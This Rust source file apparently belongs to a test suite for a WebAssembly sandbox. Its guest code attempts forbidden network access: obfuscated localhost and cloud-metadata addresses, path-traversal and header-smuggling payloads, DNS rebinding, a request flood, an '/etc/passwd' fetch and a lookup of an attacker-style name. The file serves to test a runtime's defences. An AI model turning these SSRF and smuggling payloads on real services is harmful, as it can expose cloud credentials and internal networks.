//! Reaching what is not to be reached, and saying what is not to be said.

use std::mem::forget;
use std::net::{TcpListener, TcpStream, ToSocketAddrs, UdpSocket};

use wasip2::http::outgoing_handler::handle;
use wasip2::http::types::{Fields, IncomingResponse, Method, OutgoingRequest, Scheme};

use crate::bindings::wasi::config::store;
use crate::{Attack, Told, say};

pub(crate) const ATTACKS: &[Attack] = &[
    ("requests-without-a-grant", || spelled(SPELLINGS)),
    ("requests-to-this-machine", || spelled(SPELLINGS)),
    ("requests-to-metadata", || spelled(METADATA)),
    ("requests-of-other-schemes", requests_of_other_schemes),
    ("requests-beside-the-grant", requests_beside_the_grant),
    ("redirect-inside", redirect_inside),
    ("rebinding", rebinding),
    ("header-smuggling", header_smuggling),
    ("huge-headers", huge_headers),
    ("huge-response-headers", || answered("/headers")),
    ("slow-response", || answered("/slow")),
    ("endless-response", || answered("/endless")),
    ("response-that-is-none", || answered("/nonsense")),
    ("requests-flood", requests_flood),
    ("sockets-without-a-grant", sockets_without_a_grant),
    ("names-without-a-grant", names_without_a_grant),
];

/// This machine, in every way that somebody once read as an address. `PORT` is where a server listens.
const SPELLINGS: &[&str] = &[
    "127.0.0.1:PORT",
    "127.1:PORT",
    "127.0.1:PORT",
    "2130706433:PORT",
    "0x7f000001:PORT",
    "0x7f.0.0.1:PORT",
    "0x7f.0x0.0x0.0x1:PORT",
    "017700000001:PORT",
    "0177.0.0.1:PORT",
    "00000177.0.0.1:PORT",
    "127.0.0.1.:PORT",
    "127.127.127.127:PORT",
    "0:PORT",
    "0.0.0.0:PORT",
    "00.0:PORT",
    "[::1]:PORT",
    "[::]:PORT",
    "[::ffff:127.0.0.1]:PORT",
    "[::ffff:7f00:1]:PORT",
    "[0:0:0:0:0:ffff:127.0.0.1]:PORT",
    "[::127.0.0.1]:PORT",
    "[64:ff9b::127.0.0.1]:PORT",
    "[2002:7f00:1::]:PORT",
    "[::ffff:0:127.0.0.1]:PORT",
    "[fe80::1%25lo]:PORT",
    "[::1%25lo]:PORT",
    "localhost:PORT",
    "LOCALHOST:PORT",
    "localhost.:PORT",
    "a.localhost:PORT",
    "127.0.0.1%2e:PORT",
    "127%2e0%2e0%2e1:PORT",
    "%31%32%37.0.0.1:PORT",
    "①②⑦.⓪.⓪.①:PORT",
    "127。0。0。1:PORT",
    "ⓛocalhost:PORT",
    "example.com@127.0.0.1:PORT",
    "127.0.0.1:PORT@example.com",
    "127.0.0.1:PORT#@example.com",
    "127.0.0.1:PORT\\@example.com",
    "127.0.0.1:PORT\t",
    "127.0.0.1\n:PORT",
    "inside.test:PORT",
];

/// Where clouds hand out credentials, and other networks of the operator's.
const METADATA: &[&str] = &[
    "169.254.169.254",
    "169.254.169.254:80",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "169.254.43518",
    "169.254.170.2",
    "[fd00:ec2::254]",
    "100.100.100.200",
    "192.0.0.192",
    "metadata.google.internal",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.0.1",
    "100.64.0.1",
    "198.18.0.1",
    "224.0.0.1",
    "255.255.255.255",
    "240.0.0.1",
    "[fc00::1]",
    "[fe80::1]",
    "[ff02::1]",
    "[64:ff9b::169.254.169.254]",
    "[2002:a9fe:a9fe::]",
    "metadata.test",
];

/// Asks all of them, and tells which answered.
fn spelled(hosts: &[&str]) -> Told {
    let port = told("port");
    let hosts = hosts.iter().map(|host| host.replace("PORT", &port));
    let got: Vec<String> = hosts.filter_map(|host| get(&Scheme::Http, &host, "/", &[]).ok()).collect();
    say(format!("reached {got:?}"))
}

fn requests_of_other_schemes() -> Told {
    let site = told("site");
    let schemes = ["file", "ftp", "gopher", "ws", "unix", "HTTP", "http:", "http://x@", ""];
    let got: Vec<&str> = schemes
        .into_iter()
        .filter(|scheme| get(&Scheme::Other((*scheme).to_owned()), &site, "/etc/passwd", &[]).is_ok())
        .collect();
    // `HTTP` is the same scheme in other letters; nothing is granted, whichever it is.
    say(format!("reached {got:?}"))
}

/// `/allowed/` is granted, on this site and with `GET`.
fn requests_beside_the_grant() -> Told {
    let site = told("site");
    let paths = [
        "/",
        "/allowed",
        "/allowed/../secret",
        "/allowed/..%2fsecret",
        "/allowed/%2e%2e/secret",
        "/allowed/.%2E/secret",
        "/allowed\\..\\secret",
        "/allowed/..;/secret",
        "//secret",
        "/ALLOWED/",
        "/secret?/allowed/",
        "/secret#/allowed/",
        "http://127.0.0.1/allowed/",
        "@127.0.0.1/allowed/",
        "",
        "*",
    ];
    let mut got: Vec<String> = paths.iter().filter_map(|path| get(&Scheme::Http, &site, path, &[]).ok()).collect();
    for method in ["POST", "DELETE", "CONNECT", "TRACE", "get", "GET ", "GET / HTTP/1.1\r\nX: "] {
        got.extend(send(&Method::Other(method.to_owned()), &Scheme::Http, &site, "/allowed/", &[]));
    }
    say(format!("reached {got:?}"))
}

/// The site says to go to another port of this machine, which is not granted.
fn redirect_inside() -> Told {
    let site = told("site");
    let first = get(&Scheme::Http, &site, "/redirect", &[]);
    let followed = get(&Scheme::Http, &told("inside"), "/", &[]);
    say(format!("{first:?}, then {:?}", followed.is_ok()))
}

/// The name leads to a public address at first, and to this machine from then on.
fn rebinding() -> Told {
    let host = format!("rebinding.test:{}", told("port"));
    let got: Vec<String> = (0..4).filter_map(|_| get(&Scheme::Http, &host, "/", &[]).ok()).collect();
    say(format!("reached {got:?}"))
}

/// Headers that would be two, or a request of their own, or that are the host's to set.
fn header_smuggling() -> Told {
    let site = told("site");
    let headers = [
        ("x", "a\r\nX-Smuggled: yes"),
        ("x", "a\nX-Smuggled: yes"),
        ("x", "a\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"),
        ("x", "a\0b"),
        ("x\r\nX-Smuggled", "yes"),
        ("x-smuggled: yes\r\nx", "y"),
        ("", "empty"),
        ("host", "smuggled.example"),
        ("Host", "smuggled.example"),
        (":authority", "smuggled.example"),
        ("transfer-encoding", "chunked"),
        ("content-length", "5"),
        ("connection", "x-smuggled"),
        ("upgrade", "smuggled"),
        ("te", "trailers"),
        ("trailer", "x-smuggled"),
        ("proxy-authorization", "smuggled"),
        ("proxy-connection", "smuggled"),
        ("x-forwarded-for", "smuggled"),
        ("x-forwarded-host", "smuggled"),
        ("forwarded", "for=smuggled"),
        ("via", "smuggled"),
        ("x-real-ip", "smuggled"),
        ("x-http-method-override", "SMUGGLED"),
        ("expect", "100-continue-smuggled"),
    ];
    let sent = headers.iter().filter(|header| get(&Scheme::Http, &site, "/echo", &[**header]).is_ok()).count();
    say(format!("sent {}", sent < headers.len()))
}

fn huge_headers() -> Told {
    let site = told("site");
    let (long, some) = ("h".repeat(10 << 20), "h".repeat(1000));
    let one = get(&Scheme::Http, &site, "/echo", &[("x", &long)]);
    let many = get(&Scheme::Http, &site, "/echo", &vec![("x", some.as_str()); 10_000]);
    let path = get(&Scheme::Http, &site, &format!("/{long}"), &[]);
    say(format!("sent {:?}", [one.is_ok(), many.is_ok(), path.is_ok()]))
}

fn answered(path: &str) -> Told {
    let site = told("site");
    say(format!("answered {}", get(&Scheme::Http, &site, path, &[]).is_ok()))
}

/// As many as it can, without waiting for any.
fn requests_flood() -> Told {
    let site = told("site");
    let mut begun = 0;
    for _ in 0..500 {
        let Ok(request) = request(&Method::Get, &Scheme::Http, &site, "/slow", &[]) else { continue };
        if let Ok(future) = handle(request, None) {
            begun += 1;
            forget(future);
        }
    }
    say(format!("begun {begun}"))
}

fn sockets_without_a_grant() -> Told {
    let port: u16 = told("port").parse().unwrap_or_default();
    let mut got = Vec::new();
    for address in ["127.0.0.1", "::1", "0.0.0.0", "::ffff:127.0.0.1", "169.254.169.254", "10.0.0.1", "255.255.255.255"]
    {
        if TcpStream::connect((address, port)).is_ok() {
            got.push(format!("connected to {address}"));
        }
        if TcpListener::bind((address, 0)).is_ok() {
            got.push(format!("listens on {address}"));
        }
        if UdpSocket::bind("0.0.0.0:0").and_then(|socket| socket.send_to(b"x", (address, port))).is_ok() {
            got.push(format!("sent to {address}"));
        }
    }
    say(format!("reached {got:?}"))
}

/// A name that is looked up is a message to whoever answers for it.
fn names_without_a_grant() -> Told {
    let names = ["localhost", "inside.test", "rebinding.test", "what-i-know.attacker.test", "127.1", "a\0b", ""];
    let got: Vec<&str> = names.into_iter().filter(|name| (*name, 80).to_socket_addrs().is_ok()).collect();
    say(format!("reached {got:?}"))
}

/// What the test tells in the configuration: `site` is granted, `inside` is not, and both have this `port`.
pub(crate) fn told(key: &str) -> String {
    store::get(key).ok().flatten().unwrap_or_default()
}

pub(crate) fn get(scheme: &Scheme, host: &str, path: &str, headers: &[(&str, &str)]) -> Result<String, String> {
    send(&Method::Get, scheme, host, path, headers)
}

/// Sends a request, and gives what was answered: the URL, the status and the beginning of the body.
fn send(method: &Method, scheme: &Scheme, host: &str, path: &str, headers: &[(&str, &str)]) -> Result<String, String> {
    let future = handle(request(method, scheme, host, path, headers)?, None).map_err(|code| format!("{code:?}"))?;
    future.subscribe().block();
    let response = future.get().ok_or("nothing")?.map_err(|()| "taken")?.map_err(|code| format!("{code:?}"))?;
    let body = read(&response)?;
    Ok(format!("{host}{path}: {} {}", response.status(), String::from_utf8_lossy(&body[..body.len().min(2000)])))
}

/// The whole body, however long it is.
fn read(response: &IncomingResponse) -> Result<Vec<u8>, String> {
    let body = response.consume().map_err(|()| "no body")?;
    let stream = body.stream().map_err(|()| "no stream")?;
    let mut bytes = Vec::new();
    loop {
        match stream.blocking_read(1 << 16) {
            Ok(piece) => bytes.extend(piece),
            Err(wasip2::io::streams::StreamError::Closed) => return Ok(bytes),
            Err(error) => return Err(format!("{error:?}")),
        }
    }
}

fn request(
    method: &Method,
    scheme: &Scheme,
    host: &str,
    path: &str,
    headers: &[(&str, &str)],
) -> Result<OutgoingRequest, String> {
    let fields = Fields::new();
    for (name, value) in headers {
        fields.append(name, value.as_bytes()).map_err(|error| format!("{error:?}"))?;
    }
    let request = OutgoingRequest::new(fields);
    request.set_method(method).map_err(|()| "method")?;
    request.set_scheme(Some(scheme)).map_err(|()| "scheme")?;
    request.set_authority(Some(host)).map_err(|()| "authority")?;
    request.set_path_with_query(Some(path)).map_err(|()| "path")?;
    Ok(request)
}
